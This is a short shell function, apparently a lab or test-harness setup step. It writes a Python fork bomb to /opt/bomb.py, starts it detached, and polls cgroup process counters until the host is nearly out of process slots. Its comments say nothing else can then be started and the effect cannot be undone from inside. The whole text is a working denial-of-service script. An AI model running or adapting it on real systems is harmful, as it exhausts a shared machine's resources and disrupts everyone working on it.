# ends: fail error
# costly
# As many processes as the lab host may have, so that nothing more can be started on it. The host's own limit
# bounds them, and each rests between its tries, because others work on this machine. It can't be undone from
# inside: there is no process left to do it with.
play() {
  printf '%s\n' 'import os, time' 'while True:' '    try: os.fork()' '    except OSError: time.sleep(1)' > /opt/bomb.py
  mkfifo /opt/quiet
  exec 9<> /opt/quiet
  setsid python3 /opt/bomb.py < /dev/null > /dev/null 2>&1 9>&- &
  local tries current limit
  # Built into the shell, because nothing else can be started any more.
  for tries in {1..60}; do
    read -r current < /sys/fs/cgroup/pids/pids.current || read -r current < /sys/fs/cgroup/pids.current
    read -r limit < /sys/fs/cgroup/pids/pids.max || read -r limit < /sys/fs/cgroup/pids.max
    if [ "$current" -ge $((limit - 20)) ]; then return 0; fi
    read -r -t 1 -u 9 || true
  done
  echo "only $current of $limit processes"
  return 1
}
